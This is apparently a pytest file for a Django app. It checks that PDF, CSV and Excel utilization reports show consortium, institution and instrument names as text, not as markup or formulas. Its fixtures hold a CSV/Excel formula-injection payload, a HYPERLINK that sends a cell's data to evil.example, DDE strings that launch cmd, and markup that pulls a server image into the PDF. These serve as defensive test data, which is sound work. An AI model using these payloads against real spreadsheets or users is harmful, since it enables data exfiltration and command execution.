"""Names reach the report's files as text: never as reportlab markup in the PDF, never as a formula in CSV or Excel."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backend.periods import Period
from consortia.models import Consortium, Institution
from equipment.models import Category, Instrument
from reports import services
from reports.models import Report
from tests.hostile import FORMULA_STARTS, embedded_images, hostile, image_on_server, pdf_text, shown

pytestmark = pytest.mark.django_db


def url(consortium) -> str:
    return f"/api/v1/consortia/{consortium.id}/reports/utilization/"


@pytest.fixture
def hostile_names(data, tmp_path):
    """Every name the report shows — consortium, institutions, instruments, categories — holding markup (an
    unclosed tag, an image on the server, entities, a font) and control characters, written as an old row."""
    image = image_on_server(tmp_path)
    names = {
        "consortium": hostile("協議会", image),
        "inst_a": hostile("機関A", image),
        "inst_b": hostile("機関B", image),
        "a1": hostile("機器A", image),
        "b1": hostile("機器B", image),
        "sem": hostile("分類S", "/no/such.png"),  # a category's name has 100 characters at most
        "xrd": hostile("分類X", "/no/such.png"),
    }
    Consortium.objects.filter(pk=data.h.pk).update(name=names["consortium"])
    for key, model in (
        ("inst_a", Institution),
        ("inst_b", Institution),
        ("a1", Instrument),
        ("b1", Instrument),
        ("sem", Category),
        ("xrd", Category),
    ):
        model.objects.filter(pk=getattr(data, key).pk).update(name=names[key])
    return names


@pytest.mark.parametrize("who", ["secretariat_h", "staff_b"])  # the whole consortium; one institution's slice
def test_the_pdf_shows_every_name_as_written_and_embeds_nothing(data, client_for, hostile_names, who):
    response = client_for(getattr(data, who)).get(url(data.h), {"month": "2026-03", "format": "pdf"})
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    text = pdf_text(response.content)
    shows = {"consortium", "inst_b", "b1", "xrd"} | ({"inst_a", "a1", "sem"} if who == "secretariat_h" else set())
    for key in shows:
        assert shown(hostile_names[key]) in text, (key, text)
    assert embedded_images(response.content) == 0


def test_the_scheduled_build_of_a_report_with_such_names_succeeds(data, hostile_names):
    """The monthly build renders the same files in a task: a name must not fail it, nor leave an error that tells
    which files exist on the server."""
    period = Period.month(2026, 3)
    report = Report.objects.create(consortium=data.h, period_start=period.start, period_end=period.end, scheduled=True)
    assert services.build_report(report.id) is True
    report.refresh_from_db()
    assert (report.status, report.error) == ("done", "")
    assert shown(hostile_names["a1"]) in pdf_text(report.pdf_file.read())


@pytest.fixture
def formula_names(data):
    """Names that a spreadsheet would read as a formula (OWASP's list of leading characters)."""
    names = {
        "consortium": '=HYPERLINK("http://evil.example/?"&A1,"協議会")',
        "inst_a": "+1+cmd|' /C calc'!A0",
        "inst_b": "-2+3",
        "a1": "@SUM(1+1)*cmd|' /C calc'!A0",
        "b1": "\t=1+1",
        "sem": "\r=1+1",
        "xrd": "=1+1",
    }
    Consortium.objects.filter(pk=data.h.pk).update(name=names["consortium"])
    for key, model in (
        ("inst_a", Institution),
        ("inst_b", Institution),
        ("a1", Instrument),
        ("b1", Instrument),
        ("sem", Category),
        ("xrd", Category),
    ):
        model.objects.filter(pk=getattr(data, key).pk).update(name=names[key])
    return names


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(data, client_for, formula_names):
    response = client_for(data.secretariat_h).get(url(data.h), {"month": "2026-03", "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    labels = [row[2] for row in rows[1:]]
    for key in ("inst_a", "inst_b", "a1", "xrd"):  # an instrument's label is 'name（institution）'
        assert any(label.startswith("'" + formula_names[key]) for label in labels), key
    assert "'\t=1+1（-2+3）" in labels and "'\n=1+1" in labels  # a tab stays, a carriage return is a line break
    assert rows[1][0] == "合計" and rows[1][5] == "15.25"


def test_excel_cells_are_text_never_formulas_and_numbers_stay_numbers(data, client_for, formula_names):
    response = client_for(data.secretariat_h).get(url(data.h), {"month": "2026-03", "format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for s in book for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    assert book["概要"]["B2"].value == "'" + formula_names["consortium"]
    assert [book["機関別"].cell(r, 2).value for r in (2, 3)] == ["'+1+cmd|' /C calc'!A0", "'-2+3"]
    assert book["機関別"]["E4"].value == 15.25  # used hours, totals row: a number
